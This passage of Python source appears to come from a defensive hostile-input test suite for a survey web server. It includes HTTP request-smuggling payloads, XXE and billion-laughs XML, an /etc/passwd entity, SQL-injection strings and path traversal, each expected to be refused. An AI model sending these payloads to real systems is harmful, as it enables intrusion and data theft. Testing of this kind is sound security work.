        403, db="refusal", check=problem_type("/problems/deadline-passed"))
    add("malformed JSON to the closed survey", g, r.json("POST", closed, b"{"), 400)
    add("draft for the closed survey", g, r.json("POST", f"/api/v1/surveys/{CLOSED_SURVEY}/drafts", b"{}"), 403)
    g = "idempotency"
    key = ctx.idempotency_key
    add("reused key, other body", g, post_sub(submission(system_name="Another system"),
                                              headers=[("Idempotency-Key", key)]), 409)
    add("reused key, same body (replay)", g, post_sub(ctx.idempotent_body, headers=[("Idempotency-Key", key)]), 201,
        check=json_member("id", s1.id), note="a retry returns the first result and stores nothing")
    add("201-character key", g, post_sub(submission(), headers=[("Idempotency-Key", "k" * 201)]), 400)
    add("empty key", g, post_sub(submission(), headers=[("Idempotency-Key", "")]), 400)
    g = "receipts"
    tampered = dict(s1.receipt, answers_sha256="0" * 64)
    add("tampered receipt", g, r.json("POST", "/api/v1/receipts/verify", body(tampered)), 200,
        check=json_member("valid", False))
    add("receipt with 10 KB signature", g,
        r.json("POST", "/api/v1/receipts/verify", body(dict(s1.receipt, signature="A" * 10000))), 200,
        check=json_member("valid", False))
    add("receipt with version as text", g,
        r.json("POST", "/api/v1/receipts/verify", body(dict(s1.receipt, version="1"))), 400)
    add("receipt check with empty object", g, r.json("POST", "/api/v1/receipts/verify", b"{}"), 400)
    add("receipt check with a list", g, r.json("POST", "/api/v1/receipts/verify", b"[]"), 400)

    # ---------------------------------------------------------------- methods
    g = "methods"
    add("DELETE a submission", g, r.build("DELETE", sub1, token=s1.token), 405,
        note="RFC 9110 15.5.6: a known resource, an unsupported method: 405 with Allow")
    add("PATCH a submission", g, r.json("PATCH", sub1, body({"answers": {"country": "DE"}}), token=s1.token), 405)
    add("DELETE a draft", g, r.build("DELETE", draft1, token=d1.token), 405)
    add("DELETE a survey", g, r.build("DELETE", f"/api/v1/surveys/{SURVEY}", token=org), 405)
    add("PATCH a deadline", g, r.json("PATCH", deadline, body({"closes_at": later, "reason": "x"}), token=org), 405)
    add("POST to healthz", g, r.build("POST", "/healthz", data=b""), 405)
    add("PUT the audit log", g, r.json("PUT", audit, b"[]", token=org), 405)
    add("DELETE an unknown path", g, r.build("DELETE", "/api/v1/nothing-here"), 404)
    add("made-up method FOO", g, r.build("FOO", "/healthz"), {400, 405, 501}, framing=True, close_ok=True)
    add("lower-case method get", g, r.build("get", "/healthz"), {400, 405, 501}, framing=True, close_ok=True)
    add("HEAD healthz", g, r.build("HEAD", "/healthz"), 200, head=True,
        note="RFC 9110 9.1: every general-purpose server supports HEAD wherever GET works")
    add("HEAD survey list", g, r.build("HEAD", "/api/v1/surveys"), 200, head=True)
    add("HEAD an export", g, r.build("HEAD", f"/api/v1/surveys/{SURVEY}/responses.csv", token=analyst), 200,
        head=True, check=no_export_files())
    add("HEAD the home page", g, r.build("HEAD", "/"), 200, head=True)
    add("HEAD on a POST-only route", g, r.build("HEAD", SUB), 405, head=True)

    # ---------------------------------------------------------------- headers
    g = "headers"
    add("100 KB header", g, r.get("/healthz", headers=[("X-Big", "a" * 100_000)]), {400, 431}, framing=True,
        close_ok=True)
    add("100 KB Authorization header", g, r.get(audit, headers=[("Authorization", "Bearer " + "a" * 100_000)]),
        {400, 431}, framing=True, close_ok=True)
    add("2,000 header lines", g, r.get("/healthz", headers=[(f"X-H{i}", "v") for i in range(2000)]), {400, 431},
        framing=True, close_ok=True)
    add("NUL byte in a header", g, r.get("/healthz", headers=[(b"X-A", b"a\x00b")]), 400, framing=True, close_ok=True)
    add("obsolete line folding", g, r.get("/healthz", headers=[("X-A", "b\r\n c")]), {200, 400}, framing=True,
        close_ok=True, note="RFC 9112 5.2: refuse with 400 or unfold")
    add("no Host header", g, r.get("/healthz", host=False), 400, framing=True, close_ok=True,
        note="RFC 9112 3.2: a server MUST answer 400 to an HTTP/1.1 request without Host")
    add("two Host headers", g, r.get("/healthz", headers=[("Host", "evil.example")]), 400, framing=True,
        close_ok=True, note="RFC 9112 3.2: a server MUST answer 400 to more than one Host line")
    add("invalid Host value", g, r.get("/healthz", host=False, headers=[("Host", 'a b"<>')]), 400, framing=True,
        close_ok=True, note="RFC 9112 3.2: a server MUST answer 400 to an invalid Host")

    # ---------------------------------------------------------------- HTTP framing (raw)
    g = "framing"
    hdr = f"Host: {r.host}\r\nContent-Type: application/json\r\n".encode()
    post_line = f"POST {SUB} HTTP/1.1\r\n".encode()
    smuggled = f"GET /api/v1/audit HTTP/1.1\r\nHost: {r.host}\r\nAuthorization: Bearer {org}\r\n\r\n".encode()
    add("Content-Length and Transfer-Encoding (smuggling)", g,
        post_line + hdr + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled,
        400, framing=True, close_ok=True, max_responses=1)
    add("two different Content-Lengths", g,
        post_line + hdr + b"Content-Length: 2\r\nContent-Length: 40\r\n\r\n{}" + smuggled, 400, framing=True,
        close_ok=True, max_responses=1)
    add("Transfer-Encoding with space before colon", g,
        post_line + hdr + b"Transfer-Encoding : chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n", 400, framing=True,
        close_ok=True, max_responses=1)
    add("Transfer-Encoding gzip, chunked", g,
        post_line + hdr + b"Transfer-Encoding: gzip, chunked\r\nConnection: close\r\n\r\n0\r\n\r\n", {400, 501},
        framing=True, close_ok=True)
    add("Transfer-Encoding identity with Content-Length", g,
        post_line + hdr + b"Transfer-Encoding: identity\r\nContent-Length: 2\r\n\r\n{}", {400, 501}, framing=True,
        close_ok=True, max_responses=1)
    add("invalid chunk size", g,
        post_line + hdr + b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\n{}\r\n0\r\n\r\n", 400,
        framing=True, close_ok=True)
    add("chunk size overflows", g,
        post_line + hdr + b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\nFFFFFFFFFFFFFFFFFFFF\r\n{}\r\n0\r\n\r\n",
        {400, 413}, framing=True, close_ok=True)
    add("chunked body never terminated", g,
        post_line + hdr + b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n", 400, framing=True, close_ok=True,
        half_close=True)
    add("body shorter than Content-Length", g,
        post_line + hdr + b"Content-Length: 100\r\n\r\n{}", 400, framing=True, close_ok=True, half_close=True)
    add("2 MiB declared, 8 bytes sent", g,
        post_line + hdr + b"Content-Length: 2097152\r\n\r\n{\"a\":1}", {400, 413}, framing=True, close_ok=True,
        half_close=True)
    add("Expect: 100-continue with 2 MiB sent", g,
        post_line + hdr + b"Expect: 100-continue\r\nContent-Length: 2097152\r\n\r\n" + b"x" * 2097152, {100, 413},
        framing=True, close_ok=True,
        note="the server sends no 100 (Continue); clients send the body after their wait (curl: 1 s) and get 413")
    add("negative Content-Length", g, post_line + hdr + b"Content-Length: -1\r\n\r\n{}", 400, framing=True,
        close_ok=True)
    add("Content-Length +2", g, post_line + hdr + b"Content-Length: +2\r\n\r\n{}", 400, framing=True, close_ok=True)
    add("Content-Length 0x10", g, post_line + hdr + b"Content-Length: 0x10\r\n\r\n{}", 400, framing=True,
        close_ok=True)
    add("Content-Length of 23 digits", g, post_line + hdr + b"Content-Length: 99999999999999999999999\r\n\r\n{}",
        {400, 413}, framing=True, close_ok=True)
    add("binary garbage", g, b"\x00\x01\x02\x03HELLO\r\n\r\n", 400, framing=True, close_ok=True)
    add("HTTP/0.9 request", g, b"GET /healthz\r\n\r\n", {400, 505}, framing=True, close_ok=True)
    add("HTTP/2 preface on HTTP/1.1", g, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", {400, 505}, framing=True,
        close_ok=True)
    add("HTTP/3.0 version", g, f"GET /healthz HTTP/3.0\r\nHost: {r.host}\r\n\r\n".encode(), {400, 505},
        framing=True, close_ok=True)
    add("space in the request target", g, f"GET /heal thz HTTP/1.1\r\nHost: {r.host}\r\n\r\n".encode(), 400,
        framing=True, close_ok=True)
    add("bare LF line endings", g, f"GET /healthz HTTP/1.1\nHost: {r.host}\nConnection: close\n\n".encode(),
        {200, 400}, framing=True, close_ok=True, note="RFC 9112 2.2: a recipient MAY accept a bare LF")
    add("HTTP/1.0 with Transfer-Encoding", g,
        f"POST {SUB} HTTP/1.0\r\n".encode() + hdr + b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
        400, framing=True, close_ok=True, max_responses=1)
    add("absolute-form target", g,
        f"GET http://evil.example/healthz HTTP/1.1\r\nHost: {r.host}\r\nConnection: close\r\n\r\n".encode(), 200)
    add("pipelined requests", g,
        f"GET /healthz HTTP/1.1\r\nHost: {r.host}\r\n\r\nGET /healthz HTTP/1.1\r\nHost: {r.host}\r\n"
        f"Connection: close\r\n\r\n".encode(), 200, max_responses=2, check=responses_count(2))
    add("h2c upgrade request", g,
        f"GET /healthz HTTP/1.1\r\nHost: {r.host}\r\nConnection: Upgrade, HTTP2-Settings, close\r\nUpgrade: h2c\r\n"
        f"HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n".encode(), 200)

    # ---------------------------------------------------------------- web forms
    g = "forms"
    a, b = ctx.sessions[0], ctx.sessions[1]
    add("start without form token", g, r.form(f"/s/{SURVEY}/start", "x=1", cookie=a.cookie), 403)
    add("start with another session's token", g, r.form(f"/s/{SURVEY}/start", f"csrf={b.csrf}", cookie=a.cookie), 403)
    add("start with a forged token", g, r.form(f"/s/{SURVEY}/start", "csrf=" + "A" * 43, cookie=a.cookie), 403)
    add("save page without form token", g, r.form(f"/s/{SURVEY}/page/1", "system_name=x", cookie=a.cookie), 403)
    add("submit form without form token", g, r.form(f"/s/{SURVEY}/submit", "", cookie=a.cookie), 403)
    add("sign-in without form token", g, r.form("/sign-in", f"token={org}", cookie=a.cookie), 403)
    add("sign-in, SQL as token", g,
        r.form("/sign-in", f"csrf={a.csrf}&token=%27%20OR%20%271%27%3D%271", cookie=a.cookie), 401)
    add("sign-in, bad percent-encoding", g, r.form("/sign-in", f"csrf={a.csrf}&token=%ZZ%", cookie=a.cookie), 400)
    add("sign-in, invalid UTF-8", g, r.form("/sign-in", f"csrf={a.csrf}&token=".encode() + b"\xff\xfe",
                                            cookie=a.cookie), 400)
    add("sign-out without form token", g, r.form("/sign-out", "", cookie=a.cookie), 403)
    add("organizer deadline form, not signed in", g,
        r.form(f"/organizer/s/{SURVEY}/deadline", f"csrf={a.csrf}&closes_at=2099-01-01T00:00Z&reason=x",
               cookie=a.cookie), 401)
    add("page 0", g, r.get(f"/s/{SURVEY}/page/0"), 404)
    add("page -1", g, r.get(f"/s/{SURVEY}/page/-1"), 404)
    add("page 10^20", g, r.get(f"/s/{SURVEY}/page/100000000000000000000"), 404)
    add("resume link, wrong token", g, r.get(f"/s/{SURVEY}/resume/{d1.id}?token=wrong"), 404)
    add("resume link, SQL token", g, r.get(f"/s/{SURVEY}/resume/{d1.id}?token=%27%20OR%201%3D1--"), 404)
    add("edit link, wrong token", g, r.get(f"/s/{SURVEY}/edit/{s1.id}?token=" + "C" * 43), 404)
    add("edit link, another's token", g, r.get(f"/s/{SURVEY}/edit/{s1.id}?token={s2.token}"), 404)
    add("forged draft cookie", g, r.get(f"/s/{SURVEY}/page/1", headers=[
        ("Cookie", f"{a.cookie}; consult_draft={d1.id}.{'D' * 43}")]), 303,
        note="a draft cookie with a wrong token opens nothing: back to the introduction")

    # ---------------------------------------------------------------- resume and edit links, bounded drafts
    g = "links"
    d3 = submitted_draft(ctx)
    fill_draft_cap(ctx)
    add("GET of an edit link writes nothing", g, r.get(f"/s/{SURVEY}/edit/{s1.id}?token={s1.token}"), 200,
        check=sets_no_cookie("consult_draft"), note="a GET only shows the confirmation; the draft starts on its POST")
    add("GET of a resume link binds nothing", g, r.get(f"/s/{SURVEY}/resume/{d1.id}?token={d1.token}"), 200,
        check=sets_no_cookie("consult_draft"),
        note="a link planted by someone else must not bind the browser: only the same-site confirmation does")
    add("resume confirmation without form token (cross-site)", g,
        r.form(f"/s/{SURVEY}/resume/{d1.id}", f"token={d1.token}", cookie=a.cookie), 403)
    add("resume confirmation with another session's form token", g,
        r.form(f"/s/{SURVEY}/resume/{d1.id}", f"csrf={b.csrf}&token={d1.token}", cookie=a.cookie), 403)
    add("resume confirmation, wrong resume token", g,
        r.form(f"/s/{SURVEY}/resume/{d1.id}", f"csrf={a.csrf}&token=" + "E" * 43, cookie=a.cookie), 404)
    add("edit confirmation without form token (cross-site)", g,
        r.form(f"/s/{SURVEY}/edit/{s1.id}", f"token={s1.token}", cookie=a.cookie), 403)
    add("edit confirmation, wrong edit token", g,
        r.form(f"/s/{SURVEY}/edit/{s1.id}", f"csrf={a.csrf}&token=" + "F" * 43, cookie=a.cookie), 404)
    add("read a submitted draft with its resume token", g, r.get(f"/api/v1/drafts/{d3.id}", token=d3.token), 410,
        check=problem_type("/problems/draft-submitted"), note="after submission a resume token reads nothing")
    add("resume link of a submitted draft", g, r.get(f"/s/{SURVEY}/resume/{d3.id}?token={d3.token}"), 410)
    add("new draft beyond the per-address cap", g, r.json("POST", DRAFTS, body({"answers": {}})), 429,
        check=problem_type("/problems/too-many-drafts"))
    add("start form beyond the per-address cap", g, r.form(f"/s/{SURVEY}/start", f"csrf={a.csrf}", cookie=a.cookie),
        429)
    add("edit confirmation beyond the per-address cap", g,
        r.form(f"/s/{SURVEY}/edit/{s1.id}", f"csrf={a.csrf}&token={s1.token}", cookie=a.cookie), 429)
    zalgo = "a" + "\u0301" * 460
    add("200-character text of 921 bytes of combining marks", g, post_sub(submission(system_name=zalgo)), 422,
        check=errors_name("system_name"), note="max_length 200 also allows at most 800 bytes of UTF-8")
    add("draft text of combining marks", g, r.json("POST", DRAFTS, body({"answers": {"system_name": zalgo}})), 422,
        check=errors_name("system_name"))

    # ---------------------------------------------------------------- exports leave no file behind
    g = "export-files"
    api_exports = [f"/api/v1/surveys/{SURVEY}/{file}" for file in EXPORT_FILES]
    page_exports = [f"/analyst/s/{SURVEY}/download/{file}" for file in EXPORT_FILES]
    for path in api_exports:
        add(f"HEAD {path}", g, r.build("HEAD", path, token=analyst), 200, head=True,
            check=all_of(no_export_files(), header_is("Cache-Control", "no-store")),
            note="HEAD answers without producing the export, so nothing is written")
    for path in page_exports:
        add(f"HEAD {path}", g, r.build("HEAD", path, headers=[("Cookie", ctx.analyst_cookie)]), 200, head=True,
            check=all_of(no_export_files(), header_is("Cache-Control", "no-store")))
    for path in api_exports + page_exports:
        add(f"GET {path}, client hangs up", g, r.get("/healthz"), 200,
            check=hangs_up_on(path), note="the export file is unlinked once open: nothing stays when the client leaves")

    # ---------------------------------------------------------------- secrets are not cached
    g = "no-store"
    add("GET own submission", g, r.get(f"/api/v1/submissions/{s1.id}", token=s1.token), 200,
        check=header_is("Cache-Control", "no-store"))
    add("GET own draft", g, r.get(f"/api/v1/drafts/{d1.id}", token=d1.token), 200,
        check=header_is("Cache-Control", "no-store"))
    for path in api_exports:
        add(f"GET {path}", g, r.get(path, token=analyst), 200, downloads=1,
            check=all_of(header_is("Cache-Control", "no-store"), no_export_files()))
    for path in page_exports:
        add(f"GET {path}", g, r.get(path, headers=[("Cookie", ctx.analyst_cookie)]), 200, downloads=1,
            check=all_of(header_is("Cache-Control", "no-store"), no_export_files()))

    # ---------------------------------------------------------------- slow and silent clients
    g = "slow-clients"
    for kind, count in (("header", 50), ("body", 20), ("idle", 50), ("kept-alive", 20)):
        add(f"{count} connections, {kind}", g, r.get("/healthz"), 200, check=slow_clients_closed(kind, count),
            note="each is closed within its timeout (consult serve --header-timeout, --body-timeout, "
                 "--idle-timeout), while a normal request is still answered at once")

    # ---------------------------------------------------------------- SPSS and Stata exports (issue #17)
    g = "export-statistics"
    for kind in ("sav", "dta"):
        add(f"responses.{kind} without a token", g, r.get(f"/api/v1/surveys/{SURVEY}/responses.{kind}"), 401)
        add(f"responses.{kind} with a respondent's token", g,
            r.get(f"/api/v1/surveys/{SURVEY}/responses.{kind}", token=s1.token), 401)
        add(f"responses.{kind} of an unknown survey", g,
            r.get(f"/api/v1/surveys/no-such-survey/responses.{kind}", token=analyst), 404)
        add(f"responses.{kind} with 20 KB of query junk", g,
            r.get(f"/api/v1/surveys/{SURVEY}/responses.{kind}?junk=" + "j" * 20000, token=analyst), 200, downloads=1,
            check=all_of(header_is("Cache-Control", "no-store"), no_export_files()))
        add(f"analysis.{kind} (no such export)", g, r.get(f"/api/v1/surveys/{SURVEY}/analysis.{kind}", token=analyst), 404)
    reading_room_theme_cases(ctx, r, add)
    # campaigns: clusters of look-alike submissions and their review.
    campaign_cases(ctx, r, add)
    # ---------------------------------------------------------------- refiqda: REFI-QDA project and codebook
    g = "refiqda"
    qdc, qdpx = f"/api/v1/surveys/{SURVEY}/codebook.qdc", f"/api/v1/surveys/{SURVEY}/project.qdpx"

    def codebook(codes: str, namespace: str = "urn:QDA-XML:codebook:1.0") -> bytes:
        return f'<?xml version="1.0"?><CodeBook xmlns="{namespace}"><Codes>{codes}</Codes></CodeBook>'.encode()

    def code(name: str, inner: str = "") -> str:
        return f'<Code guid="{uuid.uuid4()}" name="{name}" isCodable="true">{inner}</Code>'

    def put_qdc(data: bytes, **options) -> bytes:
        return r.build("PUT", qdc, data=data, ctype="application/xml", **options)

    laughs = ('<?xml version="1.0"?><!DOCTYPE CodeBook [<!ENTITY a "lol">'
              + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
              + ']><CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>' + code("&j;") + "</Codes></CodeBook>").encode()
    xxe = ('<?xml version="1.0"?><!DOCTYPE CodeBook [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
           '<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>' + code("&x;") + "</Codes></CodeBook>").encode()
    parameter_entity = ('<?xml version="1.0"?><!DOCTYPE CodeBook [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]>'
                        '<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>' + code("A") + "</Codes></CodeBook>").encode()
    add("codebook: malformed XML", g, put_qdc(b"<CodeBook><Codes><Code", token=analyst), 400,
        check=problem_type("/problems/malformed-codebook"))
    add("codebook: billion laughs", g, put_qdc(laughs, token=analyst), 400,
        note="a DOCTYPE is refused before libxml2 parses: no entity is ever expanded")
    add("codebook: external entity (XXE)", g, put_qdc(xxe, token=analyst), 400)
    add("codebook: external parameter entity", g, put_qdc(parameter_entity, token=analyst), 400)
    add("codebook: nested four levels", g, put_qdc(codebook(code("A", code("B", code("C", code("D"))))), token=analyst),
        422, check=problem_type("/problems/invalid-codebook"))
    add("codebook: 10,000 nested codes", g, put_qdc(codebook('<Code guid="0902CDEB-AC64-4854-954E-5FD5F1CBB172" '
        'name="x" isCodable="true">' * 10000 + "</Code>" * 10000), token=analyst), {400, 422},
        note="libxml2 stops at its depth limit (400) or the depth rule refuses it (422)")
    add("codebook: two siblings with one name", g, put_qdc(codebook(code("Twin") + code("Twin", " ")), token=analyst), 422)
    add("codebook: wrong namespace", g, put_qdc(codebook(code("A"), namespace="urn:other"), token=analyst), 422)
    add("codebook: JSON body", g, r.json("PUT", qdc, b"{}", token=analyst), 400)
    add("codebook: 2 MiB", g, put_qdc(codebook(code("A")) + b" " * (2 << 20), token=analyst), 413)
    add("codebook: no token", g, put_qdc(codebook(code("A"))), 401)
    add("codebook: a respondent's token", g, put_qdc(codebook(code("A")), token=s1.token), 401)
    add("codebook of a survey without themes", g, r.get("/api/v1/surveys/neurotech-2025/codebook.qdc", token=analyst), 409, check=problem_type("/problems/no-themes"))
    add("project.qdpx", g, r.get(qdpx, token=analyst), 200, downloads=1,
        check=all_of(header_is("Cache-Control", "no-store"), no_export_files()))
    add("HEAD project.qdpx", g, r.build("HEAD", qdpx, token=analyst), 200, head=True, check=no_export_files())
    add("project.qdpx without a token", g, r.get(qdpx), 401)
    add("project.qdpx of an unknown survey", g, r.get("/api/v1/surveys/nope/project.qdpx", token=analyst), 404)
    # ---------------------------------------------------------------- reading room: search and bulk coding (issue 14)
    g = "reading-room-search"
    texts = f"/api/v1/surveys/{SURVEY}/texts"
    bulk = f"/api/v1/surveys/{SURVEY}/bulk-codings"
    for query, why in (("%22open", "an unclosed quote"), ("privacy%20AND", "AND without a right operand"),
                       ("OR%20privacy", "OR without a left operand"), ("NOT%20privacy", "a leading NOT"),
                       ("*", "a lone *"), ("sa*fe", "a * inside a word"), ("text:privacy", "a column filter"),
                       ("%7Btext%7D:privacy", "a {column} filter"), ("NEAR(a%20b)", "NEAR"), ("(privacy", "an open ("),
                       ("privacy)", "a stray )"), ("%00", "a NUL"), ("x" * 600, "600 characters"),
                       ("%27%29%3B%20DROP%20TABLE%20open_text%3B--", "SQL"), ("%22%22%22", "an odd quote run")):
        add(f"search: {why}", g, r.get(f"{texts}?q={query}", token=analyst), 400,
            check=problem_type("/problems/malformed-query"))
    add("search: no token", g, r.get(f"{texts}?q=privacy"), 401)
    add("search: a respondent's edit token", g, r.get(f"{texts}?q=privacy", token=s1.token), 401)
    add("search: a good query", g, r.get(f"{texts}?q=caf%C3%A9%20OR%20%22data%20prot%22*", token=analyst), 200)
    add("search: every text, one per page", g, r.get(f"{texts}?limit=1", token=analyst), 200)
    for query in ("sector=%27%20OR%201%3D1--", "question=lawful_basis_likelihood", "question=nope", "country=ZZ",
                  "region=Atlantis", "publication=secret", "level=ultra", "theme=-1",
                  "theme=99999999999999999999", "coded=maybe", "limit=0", "limit=1000000", "after=abc",
                  "after=-5"):
        add(f"search: {urllib_unquote(query)}", g, r.get(f"{texts}?{query}", token=analyst), 400)
    add("bulk coding: no token", g, r.json("POST", bulk, body({"q": "privacy", "theme": 1})), 401)
    add("bulk coding: a respondent's edit token", g, r.json("POST", bulk, body({"q": "privacy", "theme": 1}),
                                                             token=s1.token), 401)
    add("bulk coding: empty body", g, r.json("POST", bulk, b"", token=analyst), 400)
    add("bulk coding: not JSON", g, r.json("POST", bulk, b"theme=1", token=analyst), 400)
    add("bulk coding: text/plain", g, r.build("POST", bulk, data=b'{"theme": 1}', ctype="text/plain", token=analyst),
        415)
    add("bulk coding: no theme", g, r.json("POST", bulk, body({"q": "privacy"}), token=analyst), 400)
    add("bulk coding: unknown theme", g, r.json("POST", bulk, body({"q": "privacy", "theme": 424242}), token=analyst),
        404, check=problem_type("/problems/unknown-theme"))
    add("search: an unknown theme", g, r.get(f"{texts}?theme=424242", token=analyst), 404,
        check=problem_type("/problems/unknown-theme"))
    add("bulk coding: theme as SQL", g, r.json("POST", bulk, body({"q": "privacy", "theme": "1; DROP TABLE coding"}),
                                                 token=analyst), 400)
    add("bulk coding: theme 1.5", g, r.json("POST", bulk, body({"theme": 1.5}), token=analyst), 400)
    add("bulk coding: preview is a string", g, r.json("POST", bulk, body({"theme": 1, "preview": "yes"}),
                                                      token=analyst), 400)
    add("bulk coding: unknown member", g, r.json("POST", bulk, body({"theme": 1, "coder_id": 1}), token=analyst), 400)
    add("bulk coding: malformed query", g, r.json("POST", bulk, body({"q": "privacy OR", "theme": 1}), token=analyst),
        400, check=problem_type("/problems/malformed-query"))
    add("bulk coding: 2 MiB", g, r.json("POST", bulk, body({"q": "a" * (2 * MIB), "theme": 1}), token=analyst), 413)
    add("undo: no such bulk coding", g, r.json("POST", f"{bulk}/424242/undo", b"", token=analyst), 404)
    add("undo: not a number", g, r.json("POST", f"{bulk}/abc/undo", b"", token=analyst), 404)
    add("undo: overflowing id", g, r.json("POST", f"{bulk}/99999999999999999999/undo", b"", token=analyst), 404)
    add("undo: no token", g, r.json("POST", f"{bulk}/1/undo", b""), 401)
    page = f"/analyst/s/{SURVEY}/texts"
    add("search page: not signed in", g, r.get(f"{page}?q=privacy"), 401)
    add("search page: malformed query", g, r.get(f"{page}?q=privacy%20AND", headers=[("Cookie", ctx.analyst_cookie)]),
        400)
    add("search page: bulk coding without the form token", g,
        r.form(f"{page}/bulk", "q=privacy&code_theme=1&action=confirm", cookie=ctx.analyst_cookie), 403)
    add("search page: undo without the form token", g, r.form(f"{page}/bulk/1/undo", "", cookie=ctx.analyst_cookie),
        403)
    add("search page: bulk coding, not signed in", g, r.form(f"{page}/bulk", "q=privacy&code_theme=1"), 401)
    position_paper_analyst_cases(ctx, r, add)
    position_paper_cases(ctx, r, add)
    language_cases(ctx, r, add, ctx.analyst)
    return cases


def position_paper_analyst_cases(ctx, r: Requests, add) -> None:
    """Position papers (extract): opening a respondent's files, the attachments export, the search's
    file cursor. (The hostile uploads themselves, and the hostile PDFs and zip bombs the extraction
    worker meets, are in the files part's cases and Tests/TextExtractionTests.)"""
    import sqlite3

    analyst, s1 = ctx.analyst, ctx.submissions[0]
    g = "position-papers-analysts"
    connection = sqlite3.connect(f"file:{ctx.server.db}?mode=ro", uri=True, timeout=10)
    try:
        respondent = connection.execute(
            "SELECT p.pseudonym FROM respondent_pseudonym p JOIN submission s ON s.seq = p.submission_seq WHERE s.id = ?",
            (s1.id,)).fetchone()[0]
    finally:
        connection.close()
    files = f"/api/v1/surveys/{SURVEY}/respondents/{respondent}/files"
    add("files: list", g, r.get(files, token=analyst), 200)
    add("files: list without a token", g, r.get(files), 401)
    add("files: list with a respondent's token", g, r.get(files, token=s1.token), 401)
    add("files: an unknown respondent", g, r.get(f"/api/v1/surveys/{SURVEY}/respondents/r-0000000000000000/files",
                                                 token=analyst), 404)
    add("files: no such file", g, r.get(f"{files}/f-00000000-0000-4000-8000-000000000000", token=analyst), 404)
    add("files: ../ in the id", g, r.get(f"{files}/..%2F..%2Fconsult.sqlite", token=analyst), 404)
    add("files: SQL in the id", g, r.get(f"{files}/%27%20OR%201%3D1--", token=analyst), 404)
    add("files: open without a token", g, r.get(f"{files}/f-00000000-0000-4000-8000-000000000000"), 401)
    add("files page: not signed in", g,
        r.get(f"/analyst/s/{SURVEY}/respondents/{respondent}/files/f-00000000-0000-4000-8000-000000000000"), 401)
    export = f"/api/v1/surveys/{SURVEY}/attachments.zip"
    add("attachments.zip", g, r.get(export, token=analyst), 200, downloads=1,
        check=all_of(header_is("Cache-Control", "no-store"), no_export_files()))
    add("HEAD attachments.zip", g, r.build("HEAD", export, token=analyst), 200, head=True, check=no_export_files())
    add("attachments.zip without a token", g, r.get(export), 401)
    add("attachments.zip with a respondent's token", g, r.get(export, token=s1.token), 401)
    add("attachments.zip of an unknown survey", g, r.get("/api/v1/surveys/nope/attachments.zip", token=analyst), 404)
    texts = f"/api/v1/surveys/{SURVEY}/texts"
    for cursor in ("abc", "-5", "99999999999999999999"):
        add(f"search: attachments_after={cursor}", g, r.get(f"{texts}?q=privacy&attachments_after={cursor}",
                                                            token=analyst), 400)
    add("search: attachments_after past the end", g, r.get(f"{texts}?q=privacy&attachments_after=424242",
                                                           token=analyst), 200)


def language_cases(ctx, r: Requests, add, analyst) -> None:
    """lang (issue 15): the language check the answer pages' script calls, and the search's language filter."""
    g = "language"
    check = f"/api/v1/surveys/{SURVEY}/language-check"
    french = "La défense doit avoir accès aux données brutes et à l'algorithme, sinon le procès n'est pas équitable."
    add("language check: a French text", g, r.json("POST", check, body({"text": french})), 200,
        check=json_member("verdict", "foreign"))
    add("language check: a short text", g, r.json("POST", check, body({"text": "Oui"})), 200,
        check=json_member("verdict", "undetermined"))
    add("language check: NUL and lone surrogate escapes", g, r.json("POST", check, b'{"text": "a\\u0000b \\ud800"}'),
        (200, 400))
    add("language check: 1 MiB of one letter", g, r.json("POST", check, body({"text": "a" * (MIB - 20)})), 200)
    add("language check: 2 MiB", g, r.json("POST", check, body({"text": "a" * (2 * MIB)})), 413)
    add("language check: text is a number", g, r.json("POST", check, body({"text": 1})), 400)
    add("language check: unknown member", g, r.json("POST", check, body({"text": "a", "survey": "x"})), 400)
    add("language check: empty body", g, r.json("POST", check, b""), 400)
    add("language check: a list", g, r.json("POST", check, b"[]"), 400)
    add("language check: text/plain", g, r.build("POST", check, data=b"bonjour", ctype="text/plain"), 415)
    add("language check: unknown survey", g, r.json("POST", "/api/v1/surveys/nope/language-check", body({"text": "a"})), 404)
    texts = f"/api/v1/surveys/{SURVEY}/texts"
    for value in ("foreign", "undetermined", "survey-language", "fr", "und", "zh-Hant"):
        add(f"search: language={value}", g, r.get(f"{texts}?language={value}", token=analyst), 200)
    for value in ("x", "french", "fr-", "%27%20OR%201%3D1--", "a" * 600, "%00"):
        add(f"search: language={urllib_unquote(value)[:20]}", g, r.get(f"{texts}?language={value}", token=analyst), 400)


def reading_room_theme_cases(ctx, r: Requests, add) -> None:
    """Reading room (themes): the codebook, codings, whole submissions and agreement. Seeds a
    three-level theme chain and a retired theme first (before the cases' fingerprint is taken)."""
    import sqlite3

    analyst, s1 = ctx.analyst, ctx.submissions[0]
    themes = f"/api/v1/surveys/{SURVEY}/themes"
    codings = f"/api/v1/surveys/{SURVEY}/codings"

    def seed_theme(payload: dict) -> int:
        reply = ctx.call(r.json("POST", themes, body(payload), token=analyst))
        if reply.status != 201:
            raise SystemExit(f"hostile: seeding a theme failed: {reply.status} {reply.body[:300]!r}")
        return json.loads(reply.body)["id"]

    top = seed_theme({"name": "Hostile top", "colour": "#112233"})
    middle = seed_theme({"name": "Hostile middle", "colour": "#112233", "parent_id": top})
    deepest = seed_theme({"name": "Hostile deepest", "colour": "#112233", "parent_id": middle})
    retired = seed_theme({"name": "Hostile retired", "colour": "#445566"})
    reply = ctx.call(r.build("POST", f"{themes}/{retired}/retire", token=analyst))
    if reply.status != 200:
        raise SystemExit(f"hostile: retiring a theme failed: {reply.status}")
    connection = sqlite3.connect(f"file:{ctx.server.db}?mode=ro", uri=True, timeout=10)
    try:
        respondent = connection.execute(
            "SELECT p.pseudonym FROM respondent_pseudonym p JOIN submission s ON s.seq = p.submission_seq WHERE s.id = ?",
            (s1.id,)).fetchone()[0]
    finally:
